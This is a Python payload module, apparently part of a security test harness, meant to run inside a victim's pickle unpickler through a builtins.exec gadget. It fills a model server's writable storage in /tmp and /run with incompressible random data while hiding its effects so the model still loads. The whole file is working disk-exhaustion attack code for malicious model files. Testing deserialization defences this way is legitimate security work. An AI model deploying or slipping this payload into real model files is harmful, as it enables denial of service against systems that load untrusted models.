"""Payload (builtins.exec gadget): fills the sandbox's writable storage. Writes PARAMS["bytes"] in
1 MiB chunks of random-looking data (so no filesystem can compress or dedupe them) into files
under each of PARAMS["dirs"] in turn (/tmp, then /run: what a container's model server may write),
moving on to the next directory when one refuses a write (ENOSPC at a size limit, EROFS).
What counts is what the harness finds on the sandbox's storage afterwards, not this payload's
word. Runs before the model loads and returns, so the server still comes up.

Runs inside the victim's unpickler with PARAMS bound. Errors are swallowed (to stderr only) so the
model still loads; nothing goes to stdout, which is the server's readiness channel.
"""
import os
import sys

CHUNK = 1 << 20


def fill(directory, remaining, block):
    """Bytes written into `directory` (at most `remaining`), stopping at the first refused write."""
    written = 0
    try:
        with open(os.path.join(directory, f"abx-fill-{os.getpid()}"), "wb", buffering=0) as out:
            while written < remaining:
                written += out.write(block[:min(CHUNK, remaining - written)])
    except OSError as error:
        print(f"fill_disk: {directory}: stopped after {written} bytes: {error}", file=sys.stderr)
    return written


def main(params):
    remaining = int(params["bytes"])
    block = os.urandom(CHUNK)
    for directory in params.get("dirs", ["/tmp", "/run"]):
        if remaining <= 0:
            break
        remaining -= fill(directory, remaining, block)


try:
    main(PARAMS)  # noqa: F821 (bound by the gadget)
except Exception as error:  # the model must still load
    print(f"fill_disk: {error}", file=sys.stderr)
